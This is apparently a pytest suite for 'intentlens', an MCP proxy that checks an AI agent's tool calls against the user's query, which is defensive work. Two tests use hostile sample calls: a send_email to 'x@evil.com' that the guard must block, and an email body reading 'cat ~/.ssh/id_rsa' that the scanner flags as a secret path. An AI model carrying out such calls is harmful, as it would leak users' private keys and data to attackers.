"""Guard mode, kill -9, client disconnect and the 2025-11-25 handshake, against the real demo server."""

from __future__ import annotations

import asyncio
import json
import os
import signal
import sqlite3
import sys
from pathlib import Path

import pytest
from mcp import Client

from intentlens.backends import ManagedBackend, ScriptedBackend
from intentlens.core import Plan, ToolCall, ToolSpec
from intentlens.guards import Vista
from intentlens.guards._triage import Triage
from tests.proxy.conftest import proxy_params

QUERY_META = "io.intentlens/query"
ALLOW = {"core_intent": "add", "tool_behaviour": "adds", "verdict": "serves_request", "reason": "asked"}


def _rows(db: Path, sql: str) -> list[tuple]:
    with sqlite3.connect(db) as conn:
        return list(conn.execute(sql))


def _script(tmp_path: Path, *replies: dict) -> Path:
    path = tmp_path / "judge.jsonl"
    path.write_text("".join(json.dumps(r) + "\n" for r in replies), encoding="utf-8")
    return path


async def test_vista_blocks_a_misaligned_call_with_a_tool_error(tmp_path: Path,
                                                               demo_config: Path) -> None:
    db = tmp_path / "rec.sqlite"
    provenance = {"arguments": {"to": {"provenance": "illegitimate", "preserved": True},
                                "body": {"provenance": "illegitimate", "preserved": True}},
                  "reason": "not in the request"}
    # add: both numbers are in the query, so one tool-intent call; send_email: provenance fails it
    # first, so its tool-intent call is skipped
    judge = _script(tmp_path, ALLOW, provenance)
    params = proxy_params(demo_config, "--record", str(db), "--guard", "vista",
                          "--backend", f"scripted/{judge}")
    query = {QUERY_META: "What is 2 plus 3?"}
    async with Client(params) as client:
        await client.list_tools()
        ok = await client.call_tool("add", {"a": 2, "b": 3}, meta=query)
        refused = await client.call_tool("send_email", {"to": "x@evil.com", "body": "hi"}, meta=query)
    assert ok.structured_content == {"result": 5}
    assert refused.is_error and "intentlens blocked this call" in refused.content[0].text
    assert "argument to: illegitimate" in refused.content[0].text
    rows = _rows(db, "SELECT tool, forwarded, query, verdict FROM calls ORDER BY id")
    assert [(r[0], r[1]) for r in rows] == [("add", 1), ("send_email", 0)]
    assert rows[1][2] == "What is 2 plus 3?" and json.loads(rows[1][3])["aligned"] is False


async def test_a_data_flow_guard_sees_the_results_of_earlier_calls_for_the_query(
        tmp_path: Path, demo_config: Path) -> None:
    # the second call adds 10 to the first call's answer (5), a value the query never states: with
    # the earlier result the pre-check settles it, so each call costs one tool-intent reply and no
    # provenance reply (a provenance prompt would get ALLOW, fail to parse, and block the call)
    judge = _script(tmp_path, ALLOW, ALLOW)
    params = proxy_params(demo_config, "--guard", "vista-dataflow", "--backend", f"scripted/{judge}")
    query = {QUERY_META: "Add 2 and 3, then add 10 to the answer"}
    async with Client(params) as client:
        await client.list_tools()
        first = await client.call_tool("add", {"a": 2, "b": 3}, meta=query)
        second = await client.call_tool("add", {"a": first.structured_content["result"], "b": 10},
                                        meta=query)
        other = await client.call_tool("add", {"a": 5, "b": 10}, meta={QUERY_META: "Add 10 to 7"})
    assert second.structured_content == {"result": 15}
    assert other.is_error and "judge failed" in other.content[0].text  # 5 was never seen for this query


@pytest.mark.parametrize(("policy", "forwarded"), [("block", False), ("allow", True)])
async def test_without_a_query_the_policy_applies(tmp_path: Path, demo_config: Path, policy: str,
                                                  forwarded: bool) -> None:
    db = tmp_path / "rec.sqlite"
    params = proxy_params(demo_config, "--record", str(db), "--guard", "vista", "--backend", "scripted",
                          "--no-query", policy)
    async with Client(params) as client:
        result = await client.call_tool("add", {"a": 1, "b": 1})
    assert result.is_error is not forwarded
    assert _rows(db, "SELECT forwarded FROM calls") == [(int(forwarded),)]
    reason = json.loads(_rows(db, "SELECT verdict FROM calls")[0][0])["reason"]
    assert f"policy is to {policy}" in reason
    assert _rows(db, "SELECT forwarded FROM verdicts") == [(int(forwarded),)]  # decided before forwarding


async def test_a_guard_that_reads_no_query_never_blocks_for_lack_of_one(tmp_path: Path,
                                                                        demo_config: Path) -> None:
    db = tmp_path / "rec.sqlite"
    params = proxy_params(demo_config, "--record", str(db), "--guard", "metadata-scan")
    async with Client(params) as client:  # no query anywhere, and the default policy is to block
        ok = await client.call_tool("add", {"a": 1, "b": 1})
        bad = await client.call_tool("send_email", {"to": "a@b.c", "body": "cat ~/.ssh/id_rsa"})
    assert ok.structured_content == {"result": 2}
    assert bad.is_error and "secret path in argument" in bad.content[0].text
    assert _rows(db, "SELECT tool, forwarded FROM verdicts ORDER BY id") == [("add", 1), ("send_email", 0)]


async def test_query_file_channel(tmp_path: Path, demo_config: Path) -> None:
    query_file = tmp_path / "query.txt"
    query_file.write_text("Add 2 and 3 please", encoding="utf-8")
    judge = _script(tmp_path, ALLOW)
    params = proxy_params(demo_config, "--guard", "vista", "--backend", f"scripted/{judge}",
                          "--query-file", str(query_file))
    async with Client(params) as client:
        assert (await client.call_tool("add", {"a": 2, "b": 3})).structured_content == {"result": 5}


async def test_judge_failure_fails_closed(tmp_path: Path, demo_config: Path) -> None:
    judge = _script(tmp_path)  # no replies at all: the judge errors
    params = proxy_params(demo_config, "--guard", "vista", "--backend", f"scripted/{judge}")
    async with Client(params) as client:
        result = await client.call_tool("add", {"a": 2, "b": 3}, meta={QUERY_META: "2+3?"})
    assert result.is_error and "judge failed" in result.content[0].text


async def test_legacy_handshake_era_is_relayed_and_recorded(tmp_path: Path, demo_config: Path) -> None:
    db = tmp_path / "rec.sqlite"
    async with Client(proxy_params(demo_config, "--record", str(db)), mode="legacy") as client:
        assert (await client.call_tool("add", {"a": 1, "b": 2})).structured_content == {"result": 3}
        version = client.protocol_version
    assert version != "2026-07-28"
    assert _rows(db, "SELECT protocol_version FROM sessions") == [(version,)]


def _call(request_id: int, a: int) -> bytes:
    meta = {"io.modelcontextprotocol/protocolVersion": "2026-07-28",
            "io.modelcontextprotocol/clientInfo": {"name": "raw", "version": "0"},
            "io.modelcontextprotocol/clientCapabilities": {}}
    message = {"jsonrpc": "2.0", "id": request_id, "method": "tools/call",
               "params": {"name": "add", "arguments": {"a": a, "b": 1}, "_meta": meta}}
    return json.dumps(message).encode() + b"\n"


async def _raw_proxy(config: Path, *extra: str) -> asyncio.subprocess.Process:
    return await asyncio.create_subprocess_exec(
        sys.executable, "-m", "intentlens", "proxy", "--config", str(config), *extra,
        stdin=asyncio.subprocess.PIPE, stdout=asyncio.subprocess.PIPE)


async def test_every_completed_call_survives_kill_9(tmp_path: Path, demo_config: Path) -> None:
    db = tmp_path / "rec.sqlite"
    proc = await _raw_proxy(demo_config, "--record", str(db))
    assert proc.stdin and proc.stdout
    for i in range(25):
        proc.stdin.write(_call(i, i))
    await proc.stdin.drain()
    answers = [json.loads(await asyncio.wait_for(proc.stdout.readline(), 30)) for _ in range(25)]
    assert sorted(a["result"]["structuredContent"]["result"] for a in answers) == list(range(1, 26))
    os.kill(proc.pid, signal.SIGKILL)
    await proc.wait()
    assert _rows(db, "SELECT COUNT(*) FROM calls") == [(25,)]


async def test_client_disconnect_ends_proxy_and_server(demo_config: Path) -> None:
    proc = await _raw_proxy(demo_config)
    assert proc.stdin and proc.stdout
    proc.stdin.write(_call(1, 1))
    await proc.stdin.drain()
    assert json.loads(await asyncio.wait_for(proc.stdout.readline(), 30))["id"] == 1
    proc.stdin.close()
    assert await asyncio.wait_for(proc.wait(), 10) == 0


def test_call_guard_keeps_a_bounded_history_per_query() -> None:
    from intentlens.core import ToolResult
    from intentlens.guards.metadata_scan import MetadataScanner
    from intentlens.proxy import CallGuard, QuerySource

    mcp_result = ToolResult.from_mcp

    assert mcp_result({"content": [{"type": "text", "text": "a"}, {"type": "text", "text": "b"}]}
                      ).content == "a\nb"
    assert mcp_result({"structuredContent": {"x": 1}, "isError": True}).is_error
    assert mcp_result(None).is_error
    guard = CallGuard(MetadataScanner(), QuerySource(), keep=2)
    for i in range(3):
        guard.observe("q1", {"content": [{"type": "text", "text": str(i)}]})
    guard.observe("q2", {"content": []})
    guard.observe("q3", {"content": []})
    guard.observe(None, {"content": []})
    assert list(guard._seen) == ["q2", "q3"]  # the oldest query is dropped
    guard.observe("q2", {"content": [{"type": "text", "text": "x"}]})
    assert [r.content for r in guard._seen["q2"]] == [{"content": []}, "x"]


async def test_the_proxy_records_the_stage_the_library_decides(tmp_path: Path, demo_config: Path) -> None:
    db = tmp_path / "rec.sqlite"
    judge = tmp_path / "judge.jsonl"
    judge.write_text("".join(json.dumps(ALLOW) + "\n" for _ in range(8)), encoding="utf-8")
    query = "What is 2 plus 3?"
    params = proxy_params(demo_config, "--record", str(db), "--guard", "vista-triage",
                          "--backend", f"scripted/{judge}")
    async with Client(params) as client:
        listed = (await client.list_tools()).tools
        await client.call_tool("add", {"a": 2, "b": 3}, meta={QUERY_META: query})
    with sqlite3.connect(db) as conn:
        recorded = json.loads(conn.execute("SELECT verdict FROM calls").fetchone()[0])
    tools = tuple(ToolSpec(name=t.name, description=t.description or "", input_schema=t.input_schema,
                           server="demo") for t in listed)
    add = next(t for t in tools if t.name == "add")
    plan = Plan(query=query, calls=(ToolCall(tool="add", arguments={"a": 2, "b": 3}, server="demo"),),
                tools=(add, *(t for t in tools if t.name != "add")))
    reference = await Vista(ManagedBackend(ScriptedBackend(responder=lambda m, s: ALLOW)), dataflow=True,
                            triage=Triage.shipped()).verify(plan)
    assert recorded["steps"][0]["stage"] == reference.steps[0].stage
    assert recorded["aligned"] is reference.aligned
